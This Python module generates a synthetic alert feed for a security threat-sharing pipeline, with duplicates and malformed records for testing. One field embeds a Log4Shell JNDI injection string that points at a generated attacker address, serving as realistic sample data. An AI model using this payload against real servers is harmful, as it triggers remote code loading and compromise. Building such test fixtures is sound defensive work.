"""A built-in sample feed: realistic alerts for a directory, with duplicates and bad records.

Pure and deterministic for a seed. About 60% of the unique alerts are "inside" alerts (a
member's address attacked, infected or exposed), 40% sector intelligence (C2 servers and
phishing sites shared at TLP:GREEN with the sectors they target). A duplicate is a later
re-report of an earlier alert: a new id and time, the same observables, so the same
fingerprint. Bad records cover every rejection class: not JSON or Avro, schema violation,
missing required field, malformed IP, unknown TLP and oversize.
"""

from __future__ import annotations

import ipaddress
import random
import uuid
from collections.abc import Sequence
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

from pipeline.alert import SECTORS, build_alert
from pipeline.directory import Member
from pipeline.feeds import FeedRegistry, FeedSpec
from pipeline.serde import alert_codec

BAD_KINDS = ("not-json", "schema", "missing-field", "bad-ip", "unknown-tlp", "oversize")
#: The field each bad kind is rejected for, as the dead-letter record names it.
BAD_FIELDS = {
    "not-json": "payload",
    "schema": "confidence",
    "missing-field": "taxonomy",
    "bad-ip": "source.ip",
    "unknown-tlp": "tlp",
    "oversize": "payload",
}
PROVIDER = "cwn-demo"
#: The producer identity the sample feed writes as.
PRODUCER = "cwn-demo"
#: The feeds the sample feed writes; `demo_feeds()` declares them.
DEMO_FEEDS = (
    "ids-sensors",
    "sinkhole-sensors",
    "darknet-sensors",
    "feed-sensors",
    "sector-intel",
    "broken-partner",
)


def demo_feeds() -> FeedRegistry:
    """The feed registry the demo imports: the sample feed's feeds, in the native formats."""
    return FeedRegistry(
        FeedSpec(
            id=f"{PROVIDER}/{name}", format="alert-json", producers=(PRODUCER,), description="Sample feed"
        )
        for name in DEMO_FEEDS
    )


@dataclass(frozen=True, slots=True)
class FeedRecord:
    """One raw record as a partner would produce it, and what the test knows about it."""

    value: bytes
    headers: tuple[tuple[str, bytes], ...]
    kind: str  # "unique", "duplicate" or one of BAD_KINDS
    serial: int  # the unique alert it reports (for duplicates, the original's serial); -1 if bad
    alert_id: str = ""  # the alert's id (members receive it as the record key); "" if bad


_INSIDE = (
    ("intrusion-attempts", "exploit", "ids", "ET EXPLOIT Apache Log4j RCE Attempt (CVE-2021-44228)", "high"),
    ("intrusion-attempts", "brute-force", "ids", "ET SCAN SSH Brute Force Attempt", "medium"),
    ("malicious-code", "infected-system", "sinkhole", "emotet", "high"),
    ("information-gathering", "scanner", "darknet", "masscan", "low"),
    ("vulnerable", "vulnerable-system", "feed", "CVE-2024-3400", "critical"),
    ("availability", "ddos", "ids", "UDP amplification flood", "high"),
)
_INTEL = (
    ("malicious-code", "c2-server", "domain", "qakbot"),
    ("malicious-code", "malware-distribution", "url", "asyncrat"),
    ("fraud", "phishing", "url", None),
)


class SampleFeed:
    """Generates records for a directory; `records(n)` returns exactly n records.

    Each call makes new alerts (duplicates repeat alerts of the same call), so a feed can be
    replayed in rounds, as `cwn demo --follow` does.
    """

    def __init__(
        self,
        members: Sequence[Member],
        seed: int = 7,
        duplicate_ratio: float = 0.3,
        bad_ratio: float = 0.01,
        now: datetime | None = None,
        max_message_bytes: int = 512 * 1024,
        avro_share: float = 1 / 3,
    ) -> None:
        self.members = [m for m in members if m.constituency.cidrs]
        self.rng = random.Random(seed)
        self.duplicate_ratio = duplicate_ratio
        self.bad_ratio = bad_ratio
        self.now = now or datetime.now(UTC)
        self.max_message_bytes = max_message_bytes
        self.avro_permille = round(avro_share * 1000)
        self.serial_base = seed * 10_000_000
        self._issued = 0  # unique alerts made so far: later calls continue, never repeat

    def records(self, count: int) -> list[FeedRecord]:
        bad = round(count * self.bad_ratio)
        duplicates = round(count * self.duplicate_ratio)
        unique = count - bad - duplicates
        if unique < 1 and duplicates:
            raise ValueError("a feed with duplicates needs at least one unique alert")
        originals: list[tuple[int, dict[str, Any]]] = []
        out: list[FeedRecord] = []
        kinds = ["unique"] * unique + ["duplicate"] * duplicates + ["bad"] * bad
        # Duplicates must follow an original: shuffle, then move any duplicate that comes first
        # after the first unique alert.
        self.rng.shuffle(kinds)
        first = kinds.index("unique") if unique else 0
        kinds = (
            [k for k in kinds[:first] if k != "duplicate"]
            + kinds[first:]
            + [k for k in kinds[:first] if k == "duplicate"]
        )
        for n, kind in enumerate(kinds):
            if kind == "unique":
                serial = self.serial_base + self._issued
                self._issued += 1
                alert = self._alert(serial)
                originals.append((serial, alert))
                out.append(self._record(alert, "unique", serial))
            elif kind == "duplicate":
                serial, original = self.rng.choice(originals)
                again = dict(original)
                again["id"] = str(uuid.UUID(int=self.rng.getrandbits(128), version=4))
                seen = datetime.fromisoformat(original["time_observation"]) + timedelta(seconds=n % 600 + 1)
                again["time_observation"] = min(seen, self.now).isoformat()
                out.append(self._record(again, "duplicate", serial))
            else:
                out.append(self._bad(BAD_KINDS[n % len(BAD_KINDS)]))
        return out

    def _record(self, alert: dict[str, Any], kind: str, serial: int) -> FeedRecord:
        feed = f"{alert['feed']['provider']}/{alert['feed']['name']}".encode()
        if serial % 1000 < self.avro_permille:  # some partners send Avro, the others JSON
            value = alert_codec().encode(build_alert(alert, now=self.now))
            headers = (("format", b"alert-avro"), ("feed", feed), ("producer", PRODUCER.encode()))
            return FeedRecord(value, headers, kind, serial, alert["id"])
        headers = (("format", b"alert-json"), ("feed", feed), ("producer", PRODUCER.encode()))
        return FeedRecord(orjson.dumps(alert), headers, kind, serial, alert["id"])

    def _alert(self, serial: int) -> dict[str, Any]:
        rng = self.rng
        observed = self.now - timedelta(seconds=rng.randint(600, 3600))
        base: dict[str, Any] = {
            "id": str(uuid.UUID(int=rng.getrandbits(128), version=4)),
            "time_observation": observed.isoformat(),
            "time_source": (observed - timedelta(seconds=rng.randint(0, 30))).isoformat(),
            "confidence": rng.choice((40, 60, 75, 90, 100)),
        }
        attacker = str(ipaddress.IPv4Address(int(ipaddress.IPv4Address("45.0.0.0")) + serial % 2**24))
        if rng.random() < 0.6:
            member = rng.choice(self.members)
            taxonomy, kind, origin, ident, severity = rng.choice(_INSIDE)
            network = member.constituency.cidrs[0]
            victim = str(network.network_address + rng.randint(1, min(network.num_addresses - 2, 250)))
            infected = kind == "infected-system"
            base |= {
                "feed": {"provider": PROVIDER, "name": f"{origin}-sensors"},
                "sensor": f"{origin}-{rng.randint(1, 12):02d}",
                "origin": origin,
                "taxonomy": taxonomy,
                "type": kind,
                # A reference per event: two events of the feed never share a fingerprint, so the
                # test's count of repeats is exact whatever fields a type's fingerprint covers.
                "identifier": f"{ident} (ref {serial:x})",
                "severity": severity,
                "tlp": rng.choice(("AMBER", "AMBER", "AMBER+STRICT", "GREEN", "RED")),
                "source": {"ip": victim if infected else attacker, "port": 1024 + serial % 60000},
                "destination": {"ip": attacker if infected else victim, "port": rng.choice((22, 443, 445))},
                "protocol": {"transport": "tcp", "application": rng.choice(("ssh", "https", "smb"))},
                "description": f"{ident}: {kind.replace('-', ' ')} involving {victim} ({member.name})",
                "references": [f"https://advisories.example/{origin}/{serial % 9973}"],
                "extra": {
                    "rule_id": str(2_000_000 + serial % 99_991),
                    "packets": str(1 + serial % 97),
                    "payload_excerpt": f"GET /{serial:x}/${{jndi:ldap://{attacker}:1389/a}} HTTP/1.1",
                },
            }
            if base["tlp"] == "RED":
                base["recipients"] = [member.id]
            if infected:
                base["malware"] = {"name": ident, "hashes": {}}
            return base
        taxonomy, kind, indicator, malware = rng.choice(_INTEL)
        sector = rng.choice(SECTORS)
        value = (
            f"c2-{serial}.threat.example"
            if indicator == "domain"
            else f"http://login-{serial}.phish.example/"
        )
        base |= {
            "feed": {"provider": PROVIDER, "name": "sector-intel"},
            "origin": "feed",
            "taxonomy": taxonomy,
            "type": kind,
            "identifier": malware,
            "severity": rng.choice(("medium", "high", "high", "critical")),
            "tlp": "GREEN",
            "sectors": [sector],
            "indicators": [{"type": indicator, "value": value}, {"type": "ipv4", "value": attacker}],
            "description": f"Infrastructure targeting the {sector} sector, seen in recent campaigns",
            "references": [
                f"https://reports.example/{taxonomy}/{serial % 9973}",
                f"https://intel.example/indicators/{serial:x}",
            ],
            "extra": {"campaign": f"{malware or 'phish'}-{serial % 17}", "first_reported_by": "partner-cert"},
        }
        if malware:
            base["malware"] = {"name": malware, "hashes": {"sha256": f"{serial:064x}"}}
        return base

    def _bad(self, kind: str) -> FeedRecord:
        good = self._alert(self.serial_base + 9_000_000 + self.rng.randint(0, 999_999))
        good["feed"] = {"provider": PROVIDER, "name": "broken-partner"}
        headers = (
            ("format", b"alert-json"),
            ("feed", b"cwn-demo/broken-partner"),
            ("producer", PRODUCER.encode()),
        )
        if kind == "not-json":
            value = b"<alert>this is not json</alert>"
        elif kind == "schema":
            value = orjson.dumps(good | {"confidence": "very high"})
        elif kind == "missing-field":
            good.pop("taxonomy")
            value = orjson.dumps(good)
        elif kind == "bad-ip":
            value = orjson.dumps(good | {"source": {"ip": "300.1.2.3"}})
        elif kind == "unknown-tlp":
            value = orjson.dumps(good | {"tlp": "PURPLE"})
        else:
            value = orjson.dumps(good | {"description": "x" * (self.max_message_bytes + 1)})
        return FeedRecord(value, headers, kind, -1)
